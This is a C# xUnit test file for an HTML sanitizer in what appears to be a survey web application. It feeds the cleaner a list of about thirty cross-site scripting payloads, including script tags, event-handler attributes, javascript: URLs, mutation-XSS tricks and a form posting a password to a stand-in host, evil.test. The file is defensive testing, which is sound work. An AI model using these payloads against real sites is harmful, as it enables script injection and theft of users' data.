using AngleSharp.Html.Parser;
using BoSoSurvey.Web.Html;
using Xunit;

namespace BoSoSurvey.Tests.Html;

/// <summary>S10.</summary>
public class HtmlCleanerTests
{
    private static readonly string[] Elements = ["P", "BR", "STRONG", "EM", "UL", "OL", "LI", "H3", "H4", "A"];

    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<p onclick=alert(1)>x</p>",
        "<p style='position:fixed;top:0;background:url(//evil.test)'>x</p>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='jav&#x09;ascript:alert(1)'>x</a>",
        "<a href=' &#14;javascript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:x' target=_blank>x</a>",
        "<a href='ftp://evil.test/'>x</a>",
        "<a href='//evil.test' onmouseover=alert(1) id=main class=ds-button>x</a>",
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form action=//evil.test><input name=password><button>x</button></form>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=x></object><embed src=x><base href=//evil.test>",
        "<meta http-equiv=refresh content='0;url=//evil.test'><link rel=stylesheet href=//evil.test>",
        "<style>@import '//evil.test'</style>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<p><![CDATA[<script>alert(1)</script>]]></p>",
        "<!--><script>alert(1)</script>-->",
        "<template><script>alert(1)</script></template>",
        "<h1>x</h1><table><tr><td>y</td></tr></table><video src=x autoplay>",
        "<p>1 < 2 &amp; 3 &gt; 2 &lt;script&gt;</p>",
        "<a href='https://husbanken.no?a=1&b=\"2\"'>x</a>",
        "\"><script>alert(1)</script>",
        "<<p>p>x",
        "<p",
        "",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Clean_OfAnAttack_LeavesWhatIsAllowedAlone(string html)
    {
        var clean = new HtmlCleaner().Clean(html);

        var body = new HtmlParser().ParseDocument($"<body>{clean}</body>").Body!;
        Assert.All(body.QuerySelectorAll("*"), element =>
        {
            Assert.Contains(element.TagName, Elements);
            Assert.All(element.Attributes, attribute =>
            {
                Assert.Equal(("A", "href"), (element.TagName, attribute.Name));
                Assert.Contains(new Uri(new Uri("https://survey.test"), attribute.Value).Scheme, (string[])["http", "https", "mailto"]);
            });
        });
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Clean_Twice_IsOnce(string html)
    {
        var cleaner = new HtmlCleaner();

        var once = cleaner.Clean(html);

        Assert.Equal(once, cleaner.Clean(once));
    }

    [Fact]
    public void Clean_OfWhatIsAllowed_ChangesNothing()
    {
        const string html = "<h3>Tema</h3><p>Tenk på <strong>kommunen</strong> <em>i dag</em>.<br><a href=\"https://husbanken.no/\">Les mer</a> eller "
            + "<a href=\"mailto:post@husbanken.no\">skriv</a></p><ul><li>en</li></ul><ol><li>to</li></ol><h4>Slutt</h4>";

        Assert.Equal(html, new HtmlCleaner().Clean(html));
    }
}
